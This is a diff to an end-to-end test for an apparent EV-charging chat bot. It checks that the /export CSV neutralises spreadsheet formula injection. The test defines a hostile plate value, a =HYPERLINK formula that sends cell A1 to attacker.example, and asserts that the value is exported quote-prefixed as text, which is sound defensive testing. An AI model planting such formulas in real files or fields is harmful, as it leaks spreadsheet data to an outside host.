@@ -27,6 +27,7 @@ NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)  # chat zone UTC; tariff: 0.10 f
 PLUGGED = datetime(2026, 11, 18, 19, 0, tzinfo=UTC)
 NIGHT = datetime(2026, 11, 18, 22, 0, tzinfo=UTC)
 OCTOBER = datetime(2026, 10, 5, 10, 0, tzinfo=UTC)
+HOSTILE_PLATE = '=HYPERLINK("https://attacker.example/?"&A1,"AB-123-CD")'
 
 
 async def _send_and_wait(user: EmulatedUser, command: str) -> int:
@@ -41,9 +42,9 @@ def _text(user: EmulatedUser, message_id: int) -> str:
     return (message.text or "") if message is not None else ""
 
 
-async def _linked(e2e: E2E) -> tuple[EmulatedUser, int]:
+async def _linked(e2e: E2E, plate: str | None = None) -> tuple[EmulatedUser, int]:
     account = e2e.sim.add_account(EMAIL, PASSWORD)
-    e2e.sim.add_vehicle(account, "X102VE", vin=VIN, battery_level=40)
+    e2e.sim.add_vehicle(account, "X102VE", vin=VIN, battery_level=40, plate=plate)
     ann = e2e.emulator.user(CHAT, "Ann")
     await login(ann, EMAIL, PASSWORD)
     await ann.wait_until(lambda u: any(t.startswith("Linked!") for t in texts(u)), timeout=WAIT)
@@ -105,7 +106,8 @@ async def test_costs_prices_each_session_with_the_tariff_and_shows_the_savings(t
 
 async def test_export_sends_a_csv_that_parses_back_to_the_stored_sessions(tmp_path: Path) -> None:
     async with running_e2e(tmp_path, start=NOW) as e2e:
-        ann, vehicle_id = await _linked(e2e)
+        # A plate is typed by the owner in MyRenault: as a formula it must reach the spreadsheet as text.
+        ann, vehicle_id = await _linked(e2e, plate=HOSTILE_PLATE)
         await _store_history(e2e, vehicle_id)
         ask = await _send_and_wait(ann, "/export")
         before = len(ann.bot_messages)
@@ -148,6 +150,7 @@ async def test_export_sends_a_csv_that_parses_back_to_the_stored_sessions(tmp_pa
         ]
         readings = [r for r in rows if r["record"] == "reading"]
         assert len(readings) == 8
+        assert {r["vehicle"] for r in rows} == {f"'{HOSTILE_PLATE}"}
         assert readings[0]["start_time"] == "2026-10-05T10:00:00+00:00"
         assert readings[0]["charging"] == "true"
         assert {"level_pct", "range_km", "power_kw", "mileage_km", "cost"} <= set(rows[0])
